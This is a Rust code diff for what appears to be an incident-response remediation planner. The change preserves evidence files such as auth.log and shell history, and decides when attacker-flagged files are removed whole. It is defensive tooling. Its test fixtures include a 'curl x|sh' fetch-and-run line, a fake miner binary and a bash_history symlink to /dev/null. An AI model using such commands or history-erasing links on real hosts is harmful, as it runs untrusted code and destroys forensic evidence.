@@ -16,7 +16,7 @@ use std::collections::{BTreeMap, BTreeSet};
 use std::net::IpAddr;
 
 use minetrace_schemas::escape_bytes;
-use minetrace_schemas::findings::{Finding, FindingsDocument, Severity, Subject};
+use minetrace_schemas::findings::{Finding, FindingsDocument, Role, Severity, Subject};
 use minetrace_schemas::records::file::{FileKind, FileRecord};
 use minetrace_schemas::records::package::PackageVerdict;
 use minetrace_schemas::RawBytes;
@@ -27,6 +27,8 @@ use super::plan::{
     Action, FileTarget, LineKind, LineRemoval, LinkTarget, Plan, PlanItem, ProcessTarget,
     Recommendation,
 };
+use super::roles::EvidenceClasses;
+use crate::indicators::Indicators;
 use crate::model::HostModel;
 use crate::parse::authorized_keys::{self, AuthorizedKey};
 
@@ -48,14 +50,21 @@ fn add_why(list: &mut Vec<String>, why: &str) {
     }
 }
 
-/// Systemd unit files and drop-ins: removed whole, with the unit stopped and disabled.
-fn unit_name(path: &[u8]) -> Option<String> {
+/// Whether a path is in a systemd unit directory: a flagged line there makes the whole unit the
+/// attacker's (a unit without its `ExecStart=` is no one's).
+fn in_unit_dir(path: &[u8]) -> bool {
     const DIRS: &[&[u8]] = &[
         b"/systemd/system/",
         b"/systemd/user/",
         b"/.config/systemd/user/",
     ];
-    if !DIRS.iter().any(|d| path.windows(d.len()).any(|w| w == *d)) {
+    DIRS.iter().any(|d| path.windows(d.len()).any(|w| w == *d))
+}
+
+/// Systemd unit files and drop-ins: removed whole, with the unit stopped and disabled. `None` for a
+/// name systemctl could not be given safely (then the file is only quarantined).
+fn unit_name(path: &[u8]) -> Option<String> {
+    if !in_unit_dir(path) {
         return None;
     }
     let name = path.rsplit(|b| *b == b'/').next()?;
@@ -203,8 +212,10 @@ type WantedLines = BTreeMap<u32, (Option<String>, Vec<String>)>;
 /// An iptables rule as `-C`/`-D` arguments, the address family it names, and the reasons.
 type RuleEntry = (Vec<Vec<u8>>, Option<u8>, Vec<String>);
 
-#[derive(Default)]
 struct Collect {
+    classes: EvidenceClasses,
+    /// Evidence files to copy before anything is destroyed, by path: never modified or removed.
+    evidence: BTreeMap<Vec<u8>, (FileTarget, Vec<String>)>,
     procs: BTreeMap<(i32, u64), (ProcessTarget, Vec<String>)>,
     /// Whole files by path.
     files: BTreeMap<Vec<u8>, (FileTarget, Vec<String>, FileFate)>,
@@ -222,6 +233,97 @@ struct Collect {
 }
 
 impl Collect {
+    fn new(model: &HostModel, iocs: &Indicators) -> Collect {
+        Collect {
+            classes: EvidenceClasses::new(model, iocs),
+            evidence: BTreeMap::new(),
+            procs: BTreeMap::new(),
+            files: BTreeMap::new(),
+            links: BTreeMap::new(),
+            shared: BTreeMap::new(),
+            lines: BTreeMap::new(),
+            endpoints: BTreeMap::new(),
+            rules: BTreeMap::new(),
+            accounts: BTreeMap::new(),
+            manual: BTreeSet::new(),
+            rebuild_why: BTreeSet::new(),
+        }
+    }
+
+    /// A subject whose detector declared it evidence, or a file of an evidence class whatever it was
+    /// declared: its regular file is copied to the quarantine (when the plan destroys anything at all)
+    /// and never modified or removed.
+    fn evidence(&mut self, model: &HostModel, s: &Subject, why: &str) {
+        let path = match s {
+            Subject::File { path, .. }
+            | Subject::Persistence { path, .. }
+            | Subject::SshKey { path, .. } => path,
+            _ => return,
+        };
+        let Some(rec) = model.file_aliased(path.as_bytes()) else {
+            return;
+        };
+        if let Ok(t) = file_target(rec) {
+            let entry = self
+                .evidence
+                .entry(t.path.0.clone())
+                .or_insert_with(|| (t, Vec::new()));
+            add_why(&mut entry.1, why);
+        }
+    }
+
+    /// The evidence class of a subject's file, when it has one (looked up under the name the snapshot
+    /// recorded, merged-`/usr` aliases followed).
+    fn evidence_class_of(&self, model: &HostModel, s: &Subject) -> Option<String> {
+        let path = match s {
+            Subject::File { path, .. }
+            | Subject::Persistence { path, .. }
+            | Subject::SshKey { path, .. } => path,
+            _ => return None,
+        };
+        let rec = model.file_aliased(path.as_bytes());
+        let recorded = rec.map_or(path.as_bytes(), |r| r.path.as_bytes());
+        let sha = rec.and_then(|r| r.sha256.as_deref());
+        self.classes
+            .class_of(recorded, sha)
+            .or_else(|| self.classes.class_of(path.as_bytes(), sha))
+            .map(|c| c.describe())
+    }
+
+    /// A subject by its role: artifacts are acted on, evidence preserved, context left alone. A file of an
+    /// evidence class is evidence whatever its detector declared; a symbolic link the attacker put at such
+    /// a path (`~/.bash_history -> /dev/null`) holds no evidence and is removed, so the history works again.
+    fn subject_with_role(&mut self, model: &HostModel, s: &Subject, role: Role, why: &str) {
+        let class = self.evidence_class_of(model, s);
+        match (role, class) {
+            (Role::Context, _) => {}
+            (Role::Evidence, _) => self.evidence(model, s, why),
+            (Role::Artifact, None) => self.subject(model, s, why),
+            (Role::Artifact, Some(class)) => {
+                if let Subject::File { path, .. } = s {
+                    if model
+                        .file_aliased(path.as_bytes())
+                        .is_some_and(|f| f.kind == FileKind::Symlink)
+                    {
+                        return self.whole_file(model, path, why);
+                    }
+                }
+                self.evidence(model, s, why);
+                let what = match s {
+                    Subject::File { path, .. } => format!("file {}", path.escaped()),
+                    Subject::Persistence { path, line } | Subject::SshKey { path, line, .. } => {
+                        format!("line {line} of {}", path.escaped())
+                    }
+                    _ => return,
+                };
+                self.manual(
+                    what,
+                    &format!("{class} is evidence: preserved, never modified or removed"),
+                );
+            }
+        }
+    }
+
     fn manual(&mut self, what: String, reason: &str) {
         self.manual.insert(format!("{what}: {reason}"));
     }
@@ -364,7 +466,7 @@ impl Collect {
             } => self.process(model, *pid, *start_ticks, exe.as_ref(), why),
             Subject::File { path, .. } => self.whole_file(model, path, why),
             Subject::Persistence { path, line } => {
-                if *line == 0 || unit_name(path.as_bytes()).is_some() {
+                if *line == 0 || in_unit_dir(path.as_bytes()) {
                     self.whole_file(model, path, why)
                 } else {
                     self.line(path, *line, None, why)
@@ -425,12 +527,13 @@ impl Collect {
     }
 }
 
-/// Lines of one file, resolved against the snapshot's copy. Returns the action or why it cannot be done.
+/// Lines of one file, resolved against the snapshot's copy: the file, its hash once they are removed,
+/// the removals, and whether nothing but blank space would be left. Or why it cannot be done.
 fn line_action(
     model: &HostModel,
     path: &[u8],
     wanted: &WantedLines,
-) -> Result<(FileTarget, String, Vec<LineRemoval>), &'static str> {
+) -> Result<(FileTarget, String, Vec<LineRemoval>, bool), &'static str> {
     let rec = model
         .file(path)
         .ok_or("not in the snapshot's file records")?;
@@ -523,12 +626,13 @@ fn line_action(
         target,
         edit::sha256(&after),
         removals.into_values().collect(),
+        after.iter().all(u8::is_ascii_whitespace),
     ))
 }
 
 /// Builds the plan for one analysis.
-pub fn build(model: &HostModel, doc: &FindingsDocument) -> Plan {
-    let mut c = Collect::default();
+pub fn build(model: &HostModel, iocs: &Indicators, doc: &FindingsDocument) -> Plan {
+    let mut c = Collect::new(model, iocs);
     let acted: Vec<&Finding> = doc
         .findings
         .iter()
@@ -537,7 +641,7 @@ pub fn build(model: &HostModel, doc: &FindingsDocument) -> Plan {
     for f in &acted {
         let why = why_of(f);
         for s in &f.subjects {
-            c.subject(model, s, &why);
+            c.subject_with_role(model, &s.subject, s.role, &why);
         }
     }
 
@@ -548,7 +652,17 @@ pub fn build(model: &HostModel, doc: &FindingsDocument) -> Plan {
             continue;
         }
         match line_action(model, &path, &wanted) {
-            Ok(edit) => edits.push(edit),
+            // Every line that is not blank is flagged: the file is the attacker's, not shared.
+            Ok((target, _, lines, true)) if !is_shared_file(&path) => {
+                let why: Vec<String> = lines.iter().flat_map(|l| l.why.clone()).collect();
+                c.whole_file(model, &target.path, why.first().map_or("", String::as_str));
+                if let Some(entry) = c.files.get_mut(&path) {
+                    for w in &why {
+                        add_why(&mut entry.1, w);
+                    }
+                }
+            }
+            Ok((target, after, lines, _)) => edits.push((target, after, lines)),
             Err(reason) => {
                 let numbers: Vec<String> = wanted.keys().map(u32::to_string).collect();
                 c.manual(
@@ -590,6 +704,19 @@ pub fn build(model: &HostModel, doc: &FindingsDocument) -> Plan {
             .entry(t.path.0.clone())
             .or_insert_with(|| push(Action::PreserveFile(t.clone()), why.to_vec()))
     };
+    // Evidence is copied too, before anything is destroyed; a plan that destroys nothing copies nothing.
+    let destroys = !c.procs.is_empty()
+        || !edits.is_empty()
+        || !c.files.is_empty()
+        || !c.links.is_empty()
+        || !c.rules.is_empty()
+        || !c.endpoints.is_empty()
+        || !c.accounts.is_empty();
+    if destroys {
+        for (target, why) in c.evidence.values() {
+            preserve(&mut push, target, why);
+        }
+    }
     let mut edit_items = Vec::new();
     for (target, after, lines) in edits {
         let why: Vec<String> =
@@ -824,7 +951,7 @@ mod tests {
                 model.file(b"/etc/ld.so.preload").expect("record"),
             )),
         ];
-        let plan = build(&model, &doc(findings));
+        let plan = build(&model, &Indicators::builtin(), &doc(findings));
         let quarantined = quarantined(&plan);
         assert_eq!(quarantined, vec![&b"/var/spool/cron/crontabs/root"[..]]);
         let edited: Vec<(&[u8], Vec<u32>)> = plan
@@ -859,9 +986,10 @@ mod tests {
     }
 
     #[test]
-    fn attacker_symlinks_are_removed_system_links_never() {
+    fn attacker_symlinks_are_removed_system_links_and_evidence_links_never() {
         let model = fixture::model(
             vec![
+                fixture::symlink(b"/tmp/.x/cron", b"/var/tmp/.k/run"),
                 fixture::symlink(b"/root/.bash_history", b"/dev/null"),
                 fixture::symlink(b"/bin", b"usr/bin"),
                 fixture::symlink(b"/usr/lib/x/y", b"/dev/null"),
@@ -870,16 +998,17 @@ mod tests {
             vec![],
         );
         let subjects = [
-            &b"/root/.bash_history"[..],
+            &b"/tmp/.x/cron"[..],
+            b"/root/.bash_history",
             b"/bin",
             b"/usr/lib/x/y",
             b"/home/a/.ssh/authorized_keys",
         ];
-        let mut f = finding(&crate::detect::rules::EVA_010, Severity::Medium);
+        let mut f = finding(&crate::detect::rules::EVA_010, Severity::High);
         for p in subjects {
             f = f.subject(file_subject(model.file(p).expect("record")));
         }
-        let plan = build(&model, &doc(vec![f]));
+        let plan = build(&model, &Indicators::builtin(), &doc(vec![f]));
         let links: Vec<&LinkTarget> = plan
             .items
             .iter()
@@ -888,10 +1017,83 @@ mod tests {
                 _ => None,
             })
             .collect();
-        assert_eq!(links.len(), 1, "{:?}", plan.items);
-        assert_eq!(links[0].path.as_bytes(), b"/root/.bash_history");
-        assert_eq!(links[0].target.as_bytes(), b"/dev/null");
+        let links: Vec<(&[u8], &[u8])> = links
+            .iter()
+            .map(|l| (l.path.as_bytes(), l.target.as_bytes()))
+            .collect();
+        assert_eq!(
+            links,
+            vec![
+                (&b"/root/.bash_history"[..], &b"/dev/null"[..]),
+                (b"/tmp/.x/cron", b"/var/tmp/.k/run")
+            ],
+            "{:?}",
+            plan.items
+        );
         assert_eq!(plan.manual.len(), 3, "{:?}", plan.manual);
+    }
+
+    #[test]
+    fn evidence_is_preserved_never_removed_and_context_is_left_alone() {
+        let auth = b"Apr  2 01:17:04 h sshd[1]: Accepted password for git from 127.66.1.9\n";
+        let model = fixture::model(
+            vec![
+                fixture::file(b"/var/log/auth.log", Some(auth)),
+                fixture::file(b"/root/.bash_history", Some(b"curl x|sh\n")),
+                fixture::file(b"/tmp/.x/miner", Some(b"\x7fELF miner")),
+                fixture::file(b"/root/.acme.sh/acme.sh", Some(b"#!/bin/sh\n")),
+            ],
+            vec![],
+        );
+        let file = |p: &[u8]| file_subject(model.file(p).expect("record"));
+        let findings = vec![
+            // A detector that (wrongly) declares a log an artifact: the planner still only copies it.
+            finding(&crate::detect::rules::ACC_010, Severity::High)
+                .subject(file(b"/var/log/auth.log"))
+                .subject_as(file(b"/root/.bash_history"), Role::Evidence),
+            finding(&crate::detect::rules::EVA_050, Severity::High)
+                .subject(file(b"/tmp/.x/miner"))
+                .subject_as(file(b"/root/.acme.sh/acme.sh"), Role::Context),
+        ];
+        let plan = build(&model, &Indicators::builtin(), &doc(findings));
+        assert_eq!(quarantined(&plan), vec![&b"/tmp/.x/miner"[..]]);
+        let preserved: Vec<&[u8]> = plan
+            .items
+            .iter()
+            .filter_map(|i| match &i.action {
+                Action::PreserveFile(f) => Some(f.path.as_bytes()),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(
+            preserved,
+            vec![
+                &b"/root/.bash_history"[..],
+                b"/var/log/auth.log",
+                b"/tmp/.x/miner"
+            ]
+        );
+        assert!(
+            plan.manual
+                .iter()
+                .any(|m| m.contains("/var/log/auth.log") && m.contains("evidence")),
+            "{:?}",
+            plan.manual
+        );
+        assert!(!plan.manual.iter().any(|m| m.contains("acme")));
+    }
+
+    #[test]
+    fn evidence_alone_is_not_copied_when_nothing_is_destroyed() {
+        let model = fixture::model(
+            vec![fixture::file(b"/var/log/auth.log", Some(b"x\n"))],
+            vec![],
+        );
+        let f = finding(&crate::detect::rules::ACC_010, Severity::Medium).subject(file_subject(
+            model.file(b"/var/log/auth.log").expect("record"),
+        ));
+        let plan = build(&model, &Indicators::builtin(), &doc(vec![f]));
+        assert!(plan.is_empty(), "{:?}", plan.items);
     }
 
     #[test]
@@ -909,7 +1111,7 @@ mod tests {
                 path: b"/lib/libgcwrap.so".as_slice().into(),
                 sha256: None,
             });
-        let plan = build(&model, &doc(vec![f]));
+        let plan = build(&model, &Indicators::builtin(), &doc(vec![f]));
         let q = quarantined(&plan);
         assert_eq!(q, vec![&b"/usr/lib/libgcwrap.so"[..]], "{:?}", plan.items);
     }
